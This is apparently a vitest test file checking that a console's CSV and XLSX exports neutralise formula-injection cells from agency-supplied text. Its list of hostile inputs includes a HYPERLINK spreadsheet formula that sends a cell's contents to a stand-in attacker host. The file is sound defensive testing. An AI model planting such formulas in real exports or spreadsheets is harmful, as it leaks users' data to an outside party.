import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { toCsv, toXlsx } from '../../web/src/export/export-table.ts';

// Agency-supplied text (record ids, names) lands in the console's exports; a spreadsheet must
// show it, never run it (OWASP "CSV injection": cells starting with = + - @, tab or carriage return).
const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];

describe('the console export of agency data', () => {
  it('writes a CSV cell that a spreadsheet would read as a formula as text (a leading apostrophe)', () => {
    const csv = toCsv({ name: 't', header: ['value'], rows: hostile.map((value) => [value]) });
    const cells = csv
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n')
      .slice(1);
    expect(cells).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
      "'+1+1",
      "'-2+3",
      `"'@SUM(1,1)"`,
      "'\t=1+1",
      `"'\r=1+1"`,
    ]);
  });

  it('leaves numbers, dates and ordinary text as they are', () => {
    const csv = toCsv({ name: 't', header: ['a', 'b', 'c'], rows: [[-5, '2026-12-04', '瑞安市隆瑞服饰有限公司']] });
    expect(
      csv
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\r\n')[1],
    ).toBe('-5,2026-12-04,瑞安市隆瑞服饰有限公司');
  });

  it('stores such text in XLSX as a string cell, never a formula', async () => {
    const buffer = await toXlsx({ name: 't', header: ['value'], rows: hostile.map((value) => [value]) });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer);
    const sheet = workbook.worksheets[0]!;
    hostile.forEach((value, index) => {
      const cell = sheet.getRow(index + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML turns a carriage return into a line feed; the text is otherwise kept exactly.
      expect(String(cell.value).replace('\n', '\r')).toBe(value);
    });
  });
});
